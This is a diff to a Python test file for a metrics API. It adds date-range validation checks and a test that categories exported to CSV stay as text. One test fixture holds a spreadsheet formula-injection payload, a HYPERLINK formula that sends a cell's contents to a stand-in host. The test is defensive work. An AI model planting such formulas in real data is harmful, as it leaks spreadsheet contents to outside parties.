@@ -530,6 +530,20 @@ def test_the_monthly_review_gets_a_csv(api):
     assert len(rows) == 1 and rows[0]["jobs"] == "1" and "hours_per_job_travel" in rows[0]
     bad = api.get("/v1/metrics", who="supervisor", params={"since": "2026-04-01", "until": "2026-03-01"})
     assert bad.status_code == 422 and bad.json()["code"] == "invalid-period"
+    for edge in ({"until": "0001-01-05"}, {"since": "9999-12-31"}):
+        r = api.get("/v1/metrics", who="supervisor", params=edge)
+        assert r.status_code == 422 and r.json()["code"] == "invalid-period", (edge, r.text)
+
+
+def test_a_category_typed_as_a_formula_stays_text_in_the_monthly_spreadsheet(api):
+    shop = api.post("/v1/outlets", {"code": "shop-f", "name": "F"}, who="admin").json()
+    formula = '=hyperlink("http://x.example/?"&a1,"open")'
+    api.job(headers=api.as_outlet(shop["id"]), product={"category": formula})
+    api.job(product={"category": "-oven"})
+    r = api.get("/v1/metrics", who="supervisor", params={**{"since": "2026-03-01", "until": "2026-04-01"},
+                                                        "group_by": "category", "format": "csv"})
+    groups = [row["group"] for row in csv.DictReader(io.StringIO(r.text))]
+    assert sorted(groups) == sorted(["'" + formula, "'-oven"]), groups
 
 
 def test_the_python_and_sql_rules_share_one_definition_of_breached():
